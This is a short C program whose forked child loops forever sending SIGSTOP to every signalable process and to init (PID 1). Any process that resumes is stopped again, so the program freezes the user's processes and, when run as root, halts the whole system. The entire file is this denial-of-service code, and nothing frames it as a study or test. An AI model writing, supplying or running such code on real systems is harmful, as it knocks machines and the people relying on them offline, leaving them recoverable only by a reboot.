/* A child stops all processes, and so does it to each that goes on. */
#define _GNU_SOURCE
#include <signal.h>
#include <unistd.h>

int main(void) {
    if (fork() == 0) {
        setsid();
        for (;;) {
            kill(-1, SIGSTOP);
            kill(1, SIGSTOP);
            usleep(50000);
        }
    }
    for (;;) {
        pause();
    }
}
